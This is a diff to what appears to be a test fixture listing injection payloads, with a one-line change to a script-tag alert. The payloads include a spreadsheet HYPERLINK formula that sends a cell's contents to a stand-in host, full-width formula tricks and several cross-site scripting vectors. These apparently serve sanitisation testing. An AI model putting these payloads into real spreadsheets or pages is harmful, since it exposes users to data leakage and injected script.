@@ -21,7 +21,7 @@ KINDS = {
     "return": "\r=1+1",
     "link formula": '=HYPERLINK("http://injiziert.example/?q="&A1;"hier")',
     "wide formula": "\uff1d1\uff0b1",  # full-width signs, which some spreadsheets read as = and +
-    "script": "<script>window.pwned=1;alert(1)</script>",
+    "script": "<script>window.pwned=1;alert('da')</script>",
     "image": "<img src=x onerror=window.pwned=1>",
     "attribute": '"\' onmouseover=window.pwned=1 autofocus onfocus=window.pwned=1 x="',
     "way out": "]]></style></script></textarea></title>--><svg onload=window.pwned=1>",
